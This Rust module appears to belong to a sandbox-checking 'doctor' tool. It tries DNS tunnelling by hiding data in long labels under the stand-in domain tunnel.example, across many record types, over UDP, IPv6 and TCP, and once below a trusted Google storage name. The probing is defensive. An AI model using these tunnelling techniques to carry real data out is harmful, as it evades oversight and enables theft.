//! DNS as a tunnel: data in labels, in odd types, over every transport, to resolvers of the attacker's own.

use std::{
    io::{self, Read as _, Write as _},
    net::{SocketAddr, TcpStream, ToSocketAddrs as _, UdpSocket},
    time::Duration,
};

use super::{Attack, Scene, arrive, no};
use crate::doctor::stage::places::{FAR_V4, FAR_V6, far};

pub const ATTACKS: &[Attack] = &[
    arrive("dns-a", "DNS: data in long labels", |scene| {
        udp(scene, far(FAR_V4, DNS), A)
    }),
    arrive("dns-txt", "DNS: TXT", |scene| {
        udp(scene, far(FAR_V4, DNS), TXT)
    }),
    arrive("dns-null", "DNS: NULL", |scene| {
        udp(scene, far(FAR_V4, DNS), NULL)
    }),
    arrive("dns-https", "DNS: HTTPS", |scene| {
        udp(scene, far(FAR_V4, DNS), HTTPS)
    }),
    arrive("dns-any", "DNS: ANY", |scene| {
        udp(scene, far(FAR_V4, DNS), ANY)
    }),
    arrive("dns-types", "DNS: all other types there are", all_types),
    arrive("dns6", "DNS over IPv6", |scene| {
        udp(scene, far(FAR_V6, DNS), TXT)
    }),
    arrive("dns-tcp", "DNS over TCP", tcp),
    arrive(
        "dns-known",
        "DNS: data below a name that policy knows",
        |scene| {
            ask(
                far(FAR_V4, DNS),
                &query(&[&scene.mark(), "storage", "googleapis", "com"], A),
            )
        },
    ),
    arrive("resolver", "the system's resolver (getaddrinfo)", |scene| {
        // That it does not exist is an answer, too.
        let _ = (format!("{}.tunnel.example", scene.mark()), 443).to_socket_addrs();
        Ok(())
    }),
];

const DNS: u16 = 53;
/// Types of RFC 1035, section 3.2, and of RFC 9460.
const A: u16 = 1;
const NULL: u16 = 10;
const TXT: u16 = 16;
const HTTPS: u16 = 65;
const ANY: u16 = 255;
/// As long as a label may be.
const DATA: &str = "x8s7d6f5g4h3j2k1l0q9w8e7r6t5y4u3i2o1p0a9s8d7f6g5h4j3k2l1z0x9c8v";

fn query(labels: &[&str], kind: u16) -> Vec<u8> {
    // RFC 1035, section 4.1: one question, recursion desired.
    let mut query = vec![0x68, 0x70, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in labels {
        query.push(label.len() as u8);
        query.extend(label.as_bytes());
    }
    query.push(0);
    query.extend(kind.to_be_bytes());
    query.extend([0, 1]);
    query
}

fn tunnel(scene: &Scene, kind: u16) -> Vec<u8> {
    query(&[&scene.mark(), DATA, DATA, "tunnel", "example"], kind)
}

fn udp(scene: &Scene, to: SocketAddr, kind: u16) -> io::Result<()> {
    ask(to, &tunnel(scene, kind))
}

/// Those that were ever assigned, and some that were not. Sent at once: whether there are answers does not matter.
fn all_types(scene: &Scene) -> io::Result<()> {
    let socket = UdpSocket::bind("0.0.0.0:0")?;
    for kind in (1..=270).chain([32768, 32769, 65280, 65534]) {
        socket.send_to(&tunnel(scene, kind), far(FAR_V4, DNS))?;
    }
    Ok(())
}

fn ask(to: SocketAddr, query: &[u8]) -> io::Result<()> {
    let socket = UdpSocket::bind(match to {
        SocketAddr::V4(_) => "0.0.0.0:0",
        SocketAddr::V6(_) => "[::]:0",
    })?;
    socket.set_read_timeout(Some(Duration::from_secs(1)))?;
    socket.send_to(query, to)?;
    let mut answer = [0; 512];
    let length = socket.recv(&mut answer)?;
    heard(&answer[..length])
}

fn tcp(scene: &Scene) -> io::Result<()> {
    let query = tunnel(scene, TXT);
    let mut stream = TcpStream::connect(far(FAR_V4, DNS))?;
    stream.set_read_timeout(Some(Duration::from_secs(1)))?;
    stream.write_all(&u16::try_from(query.len()).unwrap_or(u16::MAX).to_be_bytes())?;
    stream.write_all(&query)?;
    let mut answer = [0; 512];
    let length = stream.read(&mut answer)?;
    heard(answer.get(2..length).unwrap_or_default())
}

/// Whose answer it is nobody can tell; that there is data in it would be.
fn heard(answer: &[u8]) -> io::Result<()> {
    match answer.get(3).map(|flags| flags & 0xf) {
        Some(0) => Ok(()),
        Some(code) => Err(io::Error::other(format!(
            "the resolver answers code {code}"
        ))),
        None => Err(no("no answer")),
    }
}

#[cfg(test)]
mod tests {
    use hickory_proto::op::Message;

    use super::*;

    #[test]
    fn queries_are_well_formed() {
        assert_eq!(DATA.len(), 63);
        let longest = "a".repeat(60);
        let message = Message::from_vec(&query(&[&longest, DATA, DATA, "tunnel", "example"], TXT))
            .expect("is DNS");
        assert_eq!(message.queries.len(), 1);
    }
}
